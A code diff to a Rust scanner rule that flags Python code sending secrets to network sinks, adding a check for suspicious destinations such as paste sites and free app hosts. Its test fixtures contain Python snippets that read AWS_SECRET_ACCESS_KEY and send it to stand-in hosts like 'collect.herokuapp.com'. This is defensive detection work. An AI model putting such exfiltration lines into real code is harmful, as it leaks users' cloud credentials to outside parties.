@@ -48,8 +48,16 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
     let early = matches!(context, ExecContext::Install | ExecContext::Import);
     let stealer = super::secrets_access::is_stealer_target(&source.label);
     let from_environment_variable = source.label.starts_with("environment variable");
+    // Where it goes: a client sends its token to its vendor, not to a paste site, a tunnel, a
+    // raw IP or a free app host.
+    let endpoint = (sink == SinkKind::Network)
+        .then(|| sink_endpoint(checker, call))
+        .flatten();
     let severity = match (source.kind, sink) {
         (SourceKind::Secret, SinkKind::Network) if early => 0.9,
+        (SourceKind::Secret | SourceKind::Environment, SinkKind::Network) if endpoint.is_some() => {
+            0.65
+        }
         // Clients send their own API tokens to their own services when called; stolen browser
         // or wallet data has no such excuse.
         (SourceKind::Secret, SinkKind::Network) if stealer => 0.6,
@@ -96,11 +104,12 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
         SinkKind::Process => "process",
     };
     let sink_location = checker.location(call.range());
+    let destination = endpoint.map_or_else(String::new, |label| format!(", a {label},"));
     checker.report(
         &RULE,
         call.range(),
         format!(
-            "{} ({}) → {sink_word} sink ({sink_location}) {}",
+            "{} ({}) → {sink_word} sink ({sink_location}{destination}) {}",
             source.label,
             source.location,
             context.phrase()
@@ -108,6 +117,20 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
         severity,
         vec!["flow", flow_tag(source.kind, sink)],
     );
+}
+
+/// The label of a suspicious endpoint the call's target names, when it is known.
+fn sink_endpoint(checker: &Checker, call: &ExprCall) -> Option<String> {
+    let target = call
+        .arguments
+        .args
+        .first()
+        .or_else(|| super::keyword(call, "url"))?;
+    let url = checker
+        .fold(target)
+        .and_then(|v| v.as_text())
+        .or_else(|| checker.scopes.fold_lossy(target))?;
+    super::suspicious_endpoint::classify(&url).map(|(label, _)| label)
 }
 
 fn flow_tag(kind: SourceKind, sink: SinkKind) -> &'static str {
@@ -134,6 +157,32 @@ mod tests {
             .filter(|f| f.rule == "WH200")
             .collect();
         assert!(flows[0].message.contains("p/pkg/__init__.py:2"));
+    }
+
+    #[test]
+    fn secrets_kept_on_self_are_traced_across_methods() {
+        let code = "import os, requests\nclass Client:\n    def __init__(self):\n        self.secret = os.environ.get('AWS_SECRET_ACCESS_KEY')\n    def check(self):\n        return requests.get('https://collect.example.invalid/' + self.secret)\n";
+        let flows: Vec<_> = findings("p/pkg/client.py", code)
+            .into_iter()
+            .filter(|f| f.rule == "WH200")
+            .collect();
+        assert_eq!(flows.len(), 1, "{flows:?}");
+        assert!(flows[0].message.contains("AWS_SECRET_ACCESS_KEY"));
+        assert!(flows[0].message.contains("p/pkg/client.py:4"));
+        let plain = "import requests\nclass Client:\n    def __init__(self):\n        self.base = 'https://api.example.invalid/'\n    def check(self):\n        return requests.get(self.base + 'v1')\n";
+        assert!(
+            findings("p/pkg/client.py", plain)
+                .iter()
+                .all(|f| f.rule != "WH200")
+        );
+    }
+
+    #[test]
+    fn credentials_sent_to_a_throwaway_host_are_severe_when_called() {
+        let code = "import os, requests\nclass C:\n    def __init__(self):\n        self.key = os.environ['AWS_SECRET_ACCESS_KEY']\n    def ping(self):\n        requests.get('https://collect.herokuapp.com/k/' + self.key)\n";
+        assert!(max_severity("p/pkg/c.py", code, "WH200") >= 0.6);
+        let vendor = "import os, requests\ndef ping():\n    requests.get('https://api.vendor.example/v1', headers={'k': os.environ['VENDOR_SECRET_KEY']})\n";
+        assert!(max_severity("p/pkg/c.py", vendor, "WH200") < 0.2);
     }
 
     #[test]
